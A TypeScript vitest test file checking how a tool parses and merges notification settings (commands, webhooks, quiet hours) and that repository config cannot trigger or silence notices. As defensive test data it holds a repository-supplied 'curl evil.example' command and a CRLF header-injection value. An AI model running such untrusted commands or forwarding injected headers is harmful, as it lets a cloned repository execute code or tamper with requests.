import { expect, test } from "vitest";
import { NOTICE_KINDS } from "../../../model/index.ts";
import { mergeLayers } from "../merge.ts";
import { resolveNotify } from "./notify.ts";
import type { Layer, Settings } from "../settings.ts";
import { validateSettings } from "../reading/validate.ts";

function parsed(yaml: string): Settings["notify"] {
  const result = validateSettings(`notify: ${yaml}`);
  if (!result.ok) throw new Error(result.error.map(({ message }) => message).join());
  return result.value.settings.notify;
}

function layer(author: Layer["author"], settings: Settings): Layer {
  return { label: author, path: author, author, text: "", settings, warnings: [] };
}

test("nobody is told of anything unless they say how", () => {
  expect(resolveNotify(undefined, "/home/me")).toBeNull();
  expect(resolveNotify(parsed("false"), "/home/me")).toBeNull();
  expect(resolveNotify(parsed("{ on: [question], desktop: false }"), "/home/me")).toBeNull();
});

test("a text stands for a list of one, an address for a receiver without headers", () => {
  const written = "{ on: blocked, command: ~/bin/tell, webhook: 'https://a.example/x?k=1' }";
  expect(resolveNotify(parsed(written), "/home/me")).toEqual({
    on: ["blocked"],
    terminal: null,
    desktop: false,
    command: ["/home/me/bin/tell"],
    webhook: { url: "https://a.example/x?k=1", headers: {} },
    quiet: null,
  });
  const all = resolveNotify(parsed("{ terminal: bell, quiet_hours: '22-7' }"), "/home/me");
  expect(all?.on).toEqual(NOTICE_KINDS);
  expect(all?.quiet).toEqual({ fromMinute: 1_320, toMinute: 420 });
});

test("what could be taken for another thing is refused", () => {
  for (const bad of [
    "{ terminal: loud }",
    "{ on: [everything], desktop: true }",
    "{ quiet_hours: at night, desktop: true }",
    "{ webhook: 'ftp://a.example' }",
    "{ webhook: 'https://me:pw@a.example' }",
    "{ webhook: { url: 'https://a.example', headers: { 'x: y': z } } }",
    '{ webhook: { url: "https://a.example", headers: { x: "a\\r\\nb: c" } } }',
    "{ command: [] }",
    "yes",
  ]) {
    expect(() => parsed(bad), bad).toThrow();
  }
  for (const program of ["./tell", "bin/tell", "../tell", ""]) {
    const settings = parsed(JSON.stringify({ command: [program] }));
    expect(() => resolveNotify(settings, "/home/me"), program).toThrow(/is no program/);
  }
});

test("a repository can neither tell a person anything nor keep them from being told", () => {
  const own = layer("user", { notify: { desktop: true } });
  const theirs = layer("repository", { notify: { command: ["curl", "evil.example"] } });
  const alone = mergeLayers([theirs]);
  expect(alone.settings.notify).toBeUndefined();
  expect(alone.warnings.join()).toContain("notify: only your own settings can set it");
  expect(mergeLayers([theirs, own]).settings.notify).toEqual({ desktop: true });
  const silencing = layer("repository", { notify: false });
  expect(mergeLayers([silencing, own]).settings.notify).toEqual({ desktop: true });
});
